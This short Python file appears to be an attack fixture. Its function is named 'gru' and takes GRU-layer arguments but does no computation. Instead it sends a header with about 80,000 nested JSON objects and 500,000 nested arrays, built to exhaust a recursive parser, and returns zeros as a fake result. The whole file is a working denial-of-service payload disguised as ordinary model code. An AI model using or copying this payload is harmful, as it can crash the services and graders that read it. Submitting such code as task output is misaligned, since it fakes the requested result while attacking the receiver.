"""Writes headers that are nested half a million deep."""

import struct

from attack_kit import send, zeros

DEEP = b'{"op": "result", "arrays": [], "value": ' + b'{"a":' * 80_000 + b"[" * 500_000


def gru(linear_trans_r, linear_trans_z, linear_trans_n, init_state, input_data):
    send(struct.pack("<4sI", b"GRD1", len(DEEP)) + DEEP)
    return zeros(init_state, input_data)
